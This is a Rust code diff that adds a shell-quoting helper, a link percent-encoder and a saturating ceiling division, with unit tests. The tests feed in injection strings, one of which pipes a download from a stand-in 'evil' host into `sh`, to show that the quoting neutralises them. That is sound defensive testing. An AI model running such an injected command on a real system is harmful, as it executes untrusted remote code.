@@ -107,7 +107,35 @@ pub(super) fn plural(n: impl Into<i64>, word: &str) -> String {
 
 /// `a / b` rounded up, for non-negative `a` and positive `b`.
 pub(super) fn ceil_div(a: i64, b: i64) -> i64 {
-    (a + b - 1) / b
+    a.saturating_add(b - 1) / b
+}
+
+/// A word as `sh` must see it: left alone when every character is plain, else single-quoted.
+/// Every value a runbook reads from an annotation, a label, an argument or a path goes through it
+/// before it lands in a command.
+pub fn sh_quote(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
+    if plain {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+}
+
+/// A relative link target with everything but unreserved characters percent-encoded.
+pub(super) fn link_target(path: &str) -> String {
+    path.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
 }
 
 /// A duration in seconds as `90 s`, `10 min`, `1 h 5 min`.
@@ -140,6 +168,26 @@ mod tests {
             doc.finish(),
             "# Title\n\nText.\n\n```sh\necho hi\n```\n\n| a | b |\n|---|---|\n| x\\|y | z |\n"
         );
+    }
+
+    #[test]
+    fn hostile_words_are_single_quoted_and_plain_ones_left_alone() {
+        assert_eq!(sh_quote("golden/chat.yaml"), "golden/chat.yaml");
+        assert_eq!(
+            sh_quote("x.yaml; curl https://evil | sh"),
+            "'x.yaml; curl https://evil | sh'"
+        );
+        assert_eq!(sh_quote("rel$(id)"), "'rel$(id)'");
+        assert_eq!(sh_quote("it's"), r"'it'\''s'");
+        assert_eq!(sh_quote(""), "''");
+        assert_eq!(link_target("ml--chat.md"), "ml--chat.md");
+        assert_eq!(link_target("a b/(c).md"), "a%20b%2F%28c%29.md");
+    }
+
+    #[test]
+    fn ceil_div_saturates() {
+        assert_eq!(ceil_div(i64::MAX, 60), i64::MAX / 60);
+        assert_eq!(ceil_div(61, 60), 2);
     }
 
     #[test]
